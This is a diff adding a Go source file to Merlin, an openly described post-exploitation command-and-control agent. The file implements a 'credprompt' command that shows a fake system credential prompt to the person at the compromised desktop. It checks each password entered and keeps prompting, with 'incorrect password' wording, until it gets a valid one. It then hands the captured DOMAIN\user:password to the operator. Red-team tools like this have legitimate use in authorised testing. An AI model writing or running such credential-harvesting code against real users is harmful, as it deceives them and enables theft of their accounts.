@@ -0,0 +1,108 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"errors"
+	"fmt"
+	"strconv"
+	"strings"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin-message/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+)
+
+// errPromptCanceled is returned when the user cancels or closes the credential prompt
+var errPromptCanceled = errors.New("the user canceled the credential prompt")
+
+// credential is a user name, domain, and password entered into a credential prompt
+type credential struct {
+	User     string
+	Domain   string
+	Password string
+}
+
+// String returns the credential as DOMAIN\user:password
+func (c credential) String() string {
+	if c.Domain != "" {
+		return fmt.Sprintf("%s\\%s:%s", c.Domain, c.User, c.Password)
+	}
+	return fmt.Sprintf("%s:%s", c.User, c.Password)
+}
+
+// CredPrompt displays a native credential prompt to the user logged on to the Agent's desktop and returns the entered
+// credentials. Each entered credential is verified; the prompt is shown again, up to the number of retries, when the
+// user cancels it or enters credentials that don't verify. Later prompts tell the user the password was incorrect.
+// credprompt [caption] [message] [retries]
+// Empty caption or message arguments use the platform's default text
+func CredPrompt(cmd jobs.Command) (results jobs.Results) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("entering CredPrompt() with %+v", cmd))
+
+	var caption, message string
+	retries := 0
+	if len(cmd.Args) > 0 {
+		caption = cmd.Args[0]
+	}
+	if len(cmd.Args) > 1 {
+		message = cmd.Args[1]
+	}
+	if len(cmd.Args) > 2 {
+		var err error
+		retries, err = strconv.Atoi(cmd.Args[2])
+		if err != nil || retries < 0 {
+			results.Stderr = fmt.Sprintf("the credprompt retries argument must be 0 or greater but received %s", cmd.Args[2])
+			return
+		}
+	}
+
+	var failed bool
+	for attempt := 1; attempt <= retries+1; attempt++ {
+		cred, err := promptCredential(caption, message, failed)
+		if err != nil {
+			if errors.Is(err, errPromptCanceled) {
+				results.Stdout += fmt.Sprintf("Attempt %d: the user canceled the prompt\n", attempt)
+				failed = false
+				continue
+			}
+			results.Stderr = fmt.Sprintf("there was an error displaying the credential prompt: %s", err)
+			return
+		}
+		valid, err := verifyCredential(cred)
+		switch {
+		case err != nil:
+			// The credentials couldn't be checked, so return them without prompting again
+			results.Stdout += fmt.Sprintf("Attempt %d: %s (unverified: %s)\n", attempt, cred, err)
+			return
+		case valid:
+			results.Stdout += fmt.Sprintf("Attempt %d: %s (valid)\n", attempt, cred)
+			return
+		default:
+			results.Stdout += fmt.Sprintf("Attempt %d: %s (invalid)\n", attempt, cred)
+			failed = true
+		}
+	}
+	results.Stdout = strings.TrimSuffix(results.Stdout, "\n")
+	return
+}